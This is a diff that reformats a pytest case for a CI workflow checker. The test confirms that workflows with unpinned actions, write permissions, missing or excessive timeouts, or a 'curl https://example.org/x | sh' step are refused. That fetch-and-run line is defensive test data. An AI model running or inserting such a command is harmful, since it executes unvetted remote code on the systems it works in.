@@ -62,9 +62,10 @@ def test_the_self_test_runs_on_three_systems_and_only_the_preview_may_fail():
 GOOD = f"permissions: {{contents: read}}\njobs:\n  a:\n    timeout-minutes: 5\n    steps:\n    - uses: actions/checkout@{'0' * 40}\n    - run: make\n"
 
 
-@pytest.mark.parametrize("old, new", [("@" + "0" * 40, "@v7"), ("@" + "0" * 40, "@" + "0" * 39), ("contents: read", "contents: write"), ("{contents: read}", "write-all"),
-                                      ("permissions: {contents: read}", "name: x"), ("    timeout-minutes: 5\n", ""), ("timeout-minutes: 5", "timeout-minutes: 360"),
-                                      ("    steps:", "    permissions: {packages: write}\n    steps:"), ("run: make", "run: curl https://example.org/x | sh")])
+@pytest.mark.parametrize("old, new", [
+    ("@" + "0" * 40, "@v7"), ("@" + "0" * 40, "@" + "0" * 39), ("contents: read", "contents: write"), ("{contents: read}", "write-all"),
+    ("permissions: {contents: read}", "name: x"), ("    timeout-minutes: 5\n", ""), ("timeout-minutes: 5", "timeout-minutes: 360"),
+    ("    steps:", "    permissions: {packages: write}\n    steps:"), ("run: make", "run: curl https://example.org/x | sh")])
 def test_a_workflow_that_may_too_much_is_refused(old, new):
     assert problems(GOOD) == []
     assert problems(GOOD.replace(old, new))
